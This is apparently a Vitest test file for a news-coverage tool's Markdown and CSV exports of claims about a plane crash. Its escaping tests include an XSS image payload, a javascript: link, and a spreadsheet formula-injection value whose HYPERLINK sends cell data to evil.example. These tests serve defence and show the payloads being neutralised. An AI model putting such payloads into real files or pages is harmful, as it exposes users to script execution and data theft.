/** The event page's exports by their contracts: the grid as a Markdown table and as CSV. */
import { describe, expect, it } from 'vitest';
import { eventCoverageFor } from '../../../lib/core/coverage/event-coverage';
import { packCoverageSource } from '../../../lib/core/coverage/pack-source';
import { eventCsv } from '../../../lib/pages/event-csv';
import { eventMarkdown } from '../../../lib/pages/event-markdown';
import { eventPack } from '../../fixtures/event-pack';

async function coverage(edit?: (pack: ReturnType<typeof eventPack>) => void) {
  const pack = eventPack();
  edit?.(pack);
  return (await eventCoverageFor(packCoverageSource(pack), { entityId: 'crash' }))!;
}

describe('eventMarkdown', () => {
  it('writes a table with one row per claim, row by row of the grid, outlets in first-report order', async () => {
    const lines = eventMarkdown(await coverage()).split('\n');
    expect(lines.slice(0, 4)).toEqual([
      '# The crash',
      '',
      '| Question | Outlet | Voice | Speaker | Date | Sentence | Article |',
      '| --- | --- | --- | --- | --- | --- | --- |',
    ]);
    expect(lines[4]).toBe(
      '| What brought it down? | Another Daily | attributed | Ivan Spokesman | 2024-01-24 | A spokesman said 60 prisoners of war were aboard \\| and the talks went on. | Spokesman on the crash |',
    );
    expect(lines[5]).toBe(
      '| What brought it down? | Wire Agency | attributed | Russia | 2024-01-24 | Russia said the plane was shot down. | [Plane down](https://wire.example/a1) |',
    );
    expect(lines.filter((l) => l.startsWith('| ')).length).toBe(2 + 5);
  });

  it('escapes pipes and markup, writes line breaks as <br>, and links only web addresses', async () => {
    const md = eventMarkdown(
      await coverage((p) => {
        p.claims[0].quote = 'Line one\nLine | two <img src=x onerror=alert(1)>';
        p.articles[0].title = 'A [title](javascript:alert(1))';
      }),
    );
    const row = md.split('\n').find((l) => l.includes('Line one'))!;
    expect(row).toContain('| Line one<br>Line \\| two \\<img src=x onerror=alert(1)\\> |');
    expect(row).toContain('[A \\[title\\](javascript:alert(1))](https://wire.example/a1)');
    // Another Daily's article has a javascript: URL: its title stands as text, with no link.
    const daily = md.split('\n').find((l) => l.includes('| Another Daily |'))!;
    expect(daily.endsWith('| Spokesman on the crash |')).toBe(true);
    expect(md).not.toMatch(/(?<!\\)\]\(javascript:/);
    expect(
      md
        .split('\n')
        .filter((l) => l.startsWith('| '))
        .every((l) => l.split(/(?<!\\)\|/).length === 9),
    ).toBe(true);
  });
});

describe('a subscription in the exports', () => {
  it('names the subscription beside the outlet of each of its claims', async () => {
    const pack = packCoverageSource(eventPack());
    const source = {
      ...pack,
      claimsAbout: async (id: string) => (await pack.claimsAbout(id)).map((c) => (c.outletId === 'wire' ? { ...c, via: 'Harbour Newsroom' } : c)),
    };
    const coverage = (await eventCoverageFor(source, { entityId: 'crash' }))!;
    const md = eventMarkdown(coverage).split('\n');
    expect(md).toContain(
      '| What brought it down? | Wire Agency (via Harbour Newsroom) | attributed | Russia | 2024-01-24 | Russia said the plane was shot down. | [Plane down](https://wire.example/a1) |',
    );
    expect(eventCsv(coverage)).toContain('Wire Agency (via Harbour Newsroom)');
  });
});

describe('eventCsv', () => {
  it('writes a header and one row per claim, with a byte-order mark and CRLF rows', async () => {
    const csv = eventCsv(await coverage());
    expect(csv.startsWith('\uFEFFevent,question,outlet,voice,speaker,date,sentence,article,url\r\n')).toBe(true);
    const rows = csv.slice(1).trimEnd().split('\r\n');
    expect(rows).toHaveLength(1 + 5);
    expect(rows[2]).toBe(
      'The crash,What brought it down?,Wire Agency,attributed,Russia,2024-01-24,Russia said the plane was shot down.,Plane down,https://wire.example/a1',
    );
  });

  it('guards cells that a spreadsheet would run as formulas, and quotes what needs quoting', async () => {
    const csv = eventCsv(
      await coverage((p) => {
        p.claims[0].quote = '=HYPERLINK("http://evil.example/?"&A1, "x")';
        p.claims[0].speaker = { kind: 'source', name: '@Russia, "officially"' };
      }),
    );
    const row = csv.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
    expect(row).toBe(
      `The crash,What brought it down?,Wire Agency,attributed,"'@Russia, ""officially""",2024-01-24,"'=HYPERLINK(""http://evil.example/?""&A1, ""x"")",Plane down,https://wire.example/a1`,
    );
  });
});
